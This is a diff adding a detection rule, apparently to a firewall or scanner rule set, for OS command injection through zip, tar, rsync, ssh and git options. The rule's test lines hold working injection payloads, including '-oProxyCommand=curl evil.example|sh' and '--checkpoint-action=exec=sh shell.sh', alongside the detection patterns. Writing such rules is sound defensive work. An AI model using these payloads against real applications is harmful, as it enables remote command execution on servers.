@@ -468,3 +468,40 @@ test: tee >(sh)
 pass: price >(10)
 pass: I <3 you :-<(
 pass: a >(b + c) * 2
+
+id: 300003401
+name: OS command injection: an option that makes an archiver or a file tool run a command
+type: OS Command Injection
+accuracy: high
+risk: high
+systems: Unix/Linux
+# Applications that hand a name to `zip`, `tar`, `rsync`, `ssh` or `git` as an argument (archive
+# and sync features of file managers) run what an option names when the name starts with `-`:
+# zip's `-TT=` (`--unzip-command`, grouped with other flags as `-TvTT=`), tar's
+# `--checkpoint-action=exec=`, `--use-compress-program`, `--to-command`, `--rsh-command`,
+# `--info-script`, rsync's `--rsh=`/`-e`, ssh's `-oProxyCommand=`, git's `--upload-pack=`.
+targets: @values, param-name
+unless: binary, url
+literal: tt=
+literal: unzip-command
+literal: checkpoint-action
+literal: compress-program
+literal: to-command
+literal: rsh-command
+literal: info-script
+literal: volume-script
+literal: --rsh
+literal: proxycommand
+literal: localcommand
+literal: upload-pack
+literal: receive-pack
+regex: (?:^|\s)-[a-z]*tt=\S|(?:^|\s)--(?:unzip-command|checkpoint-action\s*=\s*exec|use-compress-program|to-command|rsh-command|info-script|new-volume-script|rsh|upload-pack|receive-pack)\s*=\s*\S|(?:^|\s)-o\s*(?:proxy|local)command\s*=
+test: -TvTT=id>shell.php # a.zip
+test: -TT=sh x.zip
+test: --checkpoint-action=exec=sh shell.sh
+test: x --use-compress-program=id
+test: -oProxyCommand=curl evil.example|sh
+test: --upload-pack=touch /tmp/pwn
+pass: butt=1
+pass: settings --title=report
+pass: the ATT=1 rule
